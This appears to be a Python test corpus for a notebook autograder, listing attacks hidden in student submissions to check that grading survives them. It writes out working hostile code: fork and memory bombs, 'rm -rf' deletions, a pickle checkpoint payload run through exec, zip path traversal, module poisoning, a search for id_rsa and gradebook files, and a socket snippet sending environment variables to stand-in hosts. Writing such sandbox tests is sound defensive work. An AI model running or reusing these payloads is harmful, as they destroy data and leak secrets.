"""Code that attacks the machine, the grader or other students: an answer that is right otherwise, and an attack in its cell.

Only the exercise with the attack may lose points, and where the answer still works although the attack failed, not even that.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

import nbformat

from autograder.assignment import grade_id, is_solution
from autograder.sample_class import Material
from tests.corpus.submissions.sample import FULL, JUDGED, Expected, Sample

_ENDS = ("error", "timeout", "crashed")


def _attacked(attack: str, inside: str = "") -> Callable[[Material], Mapping[str, bytes]]:
    """A perfect hand-in; img_to_patch needs what `attack` returns when its cell runs, or has `inside` in its body."""

    def make(material: Material) -> dict[str, bytes]:
        head, body = material.right["img_to_patch_solution"].split("    B, C, H, W", 1)
        lines = [f"    {line}\n" for line in (inside or "_attack_is_over").splitlines()]
        before = "def _attack():\n" + "".join(f"    {line}\n" for line in attack.splitlines()) + "\n\n_attack_is_over = _attack()\n\n" if attack else ""
        return material.all(img_to_patch=before + head + "".join(lines) + "    B, C, H, W" + body)

    return make


def _patches(name: str, what: str, attack: str = "", inside: str = "", expected: Expected | None = None, quick: bool = False) -> Sample:
    expect = {} if expected is None else {"img_to_patch": expected}
    return Sample(name, what, _attacked(attack, inside), expect, quick=quick)


def _poisoned(material: Material) -> dict[str, bytes]:
    """Files whose names are those of modules, loose and in the zip, each of which would spoil every answer."""
    code = b"raise SystemExit('poisoned')\n"
    names = ("ipykernel_launcher", "ipykernel", "numpy", "torch", "random", "sitecustomize", "usercustomize", "helpers", "lightning", "zmq")
    made = dict(material.all())
    made |= {f"{name}.py": code for name in names} | {f"carry/{name}.py": code for name in names}
    made |= {"evil.pth": b"import os; os._exit(1)\n", "helpers/__init__.py": code, "ipython_config.py": code, "conftest.py": code}
    return made


def _zip_of_poison(material: Material) -> dict[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _poisoned(material).items():
            archive.writestr(name, data)
        archive.writestr("../../numpy.py", b"raise SystemExit\n")
    return {"submission.zip": buffer.getvalue()}


def _carried(material: Material) -> dict[str, bytes]:
    """The carried model ends the process when it is loaded for the evidence: only the evidence is lost."""
    made = dict(material.all())
    made["carry/vision_transformer.py"] = b"import os\nos._exit(0)\n"
    return made


def _payload(material: Material) -> dict[str, bytes]:
    """A checkpoint that is a pickle with a payload: `torch.load` must not run it, in the kernel or out of it."""
    import pickle

    class Payload:
        def __reduce__(self):
            return (exec, ("import os; os.kill(os.getppid(), 9); os._exit(0)",))

    return {**material.all(), "checkpoints/best.ckpt": pickle.dumps({"state_dict": Payload()})}


def _everywhere(material: Material) -> dict[str, bytes]:
    """The same attack in a student's own cell above the answer in notebook 02: it runs once, and only there."""
    notebook = material.notebook("02_attention_block")
    at = next(index for index, cell in enumerate(notebook.cells) if is_solution(cell) and grade_id(cell) == "attention_block_solution")
    notebook.cells.insert(at, nbformat.v4.new_code_cell("import os\nos.system('rm -rf ~ /tmp/* . 2>/dev/null')\nos.kill(os.getppid(), 9)"))
    return {**material.all(), "02_attention_block.ipynb": nbformat.writes(notebook).encode()}


_LOST = Expected(0.0, _ENDS)
_CRASHED = Expected(0.0, ("crashed",))
_TIMEOUT = Expected(0.0, ("timeout",))
_ERROR = Expected(0.0, ("error",))
_KEEPS = None  # the attack comes to nothing and the answer is right

_EVIDENCE_LOST = {name: Expected(0.0, ("error", "crashed", "needs_review", "not_attempted", *JUDGED)) for name in ("test_accuracy", "train_curve", "val_curve")}

SAMPLES = [
    _patches("exit-hard", "ends the process in the function", inside="import os\nos._exit(0)", expected=_CRASHED, quick=True),
    _patches("segfault", "reads address 0", inside="import ctypes\nctypes.string_at(0)", expected=_CRASHED),
    _patches("kill-parent", "SIGKILL to its parent and to everything it may signal", attack=(
        "import contextlib, os\nfor pid in (os.getppid(), -1, 1):\n    with contextlib.suppress(OSError):\n        os.kill(pid, 9)"
    ), expected=_KEEPS, quick=True),
    _patches("deaf-loop", "a loop in C with all signals blocked", attack=(
        "import collections, itertools, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "collections.deque(itertools.repeat(0), maxlen=0)"
    ), expected=_TIMEOUT),
    _patches("fork-bomb", "forks without end", attack="import os\nwhile True:\n    os.fork()", expected=_LOST),
    _patches("memory-bomb", "takes memory without end", attack="parts = []\nwhile True:\n    parts.append(bytearray(2**28))", expected=_LOST),
    _patches("memory-bomb-family", "takes memory in many processes, each of them small", attack=(
        "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        part = b'x' * 2**29\n        time.sleep(100)\ntime.sleep(100)"
    ), expected=_LOST),
    _patches("disk-filler", "fills every folder it can write to, again and again, with files that no listing shows", attack=(
        "import os\nplaces = ('.', '/tmp', os.path.expanduser('~'), '/dev/shm', '/exchange/answers', '/exchange/sockets', '/var/tmp', '/exchange/given', '/course')\nopened = []\n"
        "while True:\n    for place in places:\n        try:\n            while True:\n                opened.append(open(f'{place}/filler', 'wb', buffering=0))\n"
        "                opened[-1].write(b'x' * 2**26)\n                os.remove(f'{place}/filler')\n        except OSError:\n            pass\n    opened.clear()"
    ), expected=_TIMEOUT),
    _patches("endless-output", "prints without end", attack="line = 'x' * 2**20\nwhile True:\n    print(line)", expected=_LOST),
    _patches("huge-error", "raises an error with a text of 100 MB", inside="raise ValueError('x' * 10**8)", expected=_LOST),
    _patches("orphans", "leaves processes behind that have nothing to do with it any more", attack=(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    for _ in range(3):\n        if os.fork() == 0:\n            os.closerange(0, 1000)\n            time.sleep(10000)\n    os._exit(0)"
    ), expected=_KEEPS),
    _patches("atexit-bomb", "does not want to end", attack=(
        "import atexit, signal, subprocess\nfor number in (signal.SIGTERM, signal.SIGHUP):\n    signal.signal(number, signal.SIG_IGN)\n"
        "def again():\n    while True:\n        subprocess.run(['sleep', '1'])\natexit.register(again)"
    ), expected=_KEEPS),
    _patches("deletes-everything", "deletes all files it can reach", attack=(
        "import os, subprocess\nsubprocess.run('rm -rf /course /exchange/given/* /exchange/sockets/* ~/* ./* /usr/lib/python3* 2>/dev/null', shell=True)\nos.makedirs('/home/student/work', exist_ok=True)"
    ), expected=_KEEPS),
    _patches("phones-home", "sends what it finds to a server, and waits for a shell", attack=(
        "import os, socket\nfor address in (('127.0.0.1', 22), ('192.0.2.1', 80), ('example.org', 443), '\\0abstract', '/run/docker.sock', '/run/dbus/system_bus_socket'):\n    kind = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET\n"
        "    try:\n        with socket.socket(kind) as plug:\n            plug.settimeout(2)\n            plug.connect(address)\n            plug.sendall(repr(os.environ).encode())\n            raise SystemExit('connected')\n    except OSError:\n        pass"
    ), expected=_KEEPS),
    _patches("reads-solutions", "looks for solutions, hidden tests and the gradebook; stops where it finds one", attack=(
        "import os\nfor top, folders, names in os.walk('/'):\n    folders[:] = [name for name in folders if os.path.join(top, name) not in ('/proc', '/usr') and name != 'site-packages']\n"
        "    if {'gradebook.db', '01_patches.ipynb', '01_patches.py', 'nbgrader_config.py', '.netrc', 'id_rsa'} & set(names):\n        raise SystemExit(f'found in {top}')"
    ), expected=_KEEPS, quick=True),
    _patches("traces-others", "looks for other processes to trace; stops where it finds one", attack=(
        "import os\nothers = [name for name in os.listdir('/proc') if name.isdigit() and int(name) > 2 and int(name) != os.getpid()]\nassert not others, others\n"
        "import ctypes\nlibc = ctypes.CDLL(None)\nfor pid in range(3, 2000):\n    assert pid == os.getpid() or libc.ptrace(16, pid, None, None) != 0"
    ), expected=_KEEPS),
    _patches("changes-torch", "changes torch for everybody who comes after it", attack=(
        "import torch\ntorch.set_default_dtype(torch.float64)\ntorch.allclose = torch.equal = lambda *_, **__: True\ntorch.nn.Linear.forward = lambda self, x: x\nraise RuntimeError('done')"
    ), expected=_ERROR),
    _patches("closes-everything", "closes all files and sockets of its process", inside="import os\nos.closerange(0, 10000)", expected=_LOST),
    Sample("poisoned-modules", "files with the names of modules", _poisoned, quick=True),
    Sample("poisoned-zip", "the same in a zip, one with a path that leads out", _zip_of_poison),
    Sample("carry-exits", "the carried model ends the process", _carried, _EVIDENCE_LOST),
    Sample("checkpoint-payload", "a checkpoint with a pickle's payload", _payload, _EVIDENCE_LOST),
    Sample("kills-from-its-own-cell", "deletes and kills in a cell of its own", _everywhere),
]  # fmt: skip
assert all(exercise in FULL for sample in SAMPLES for exercise in sample.expect)
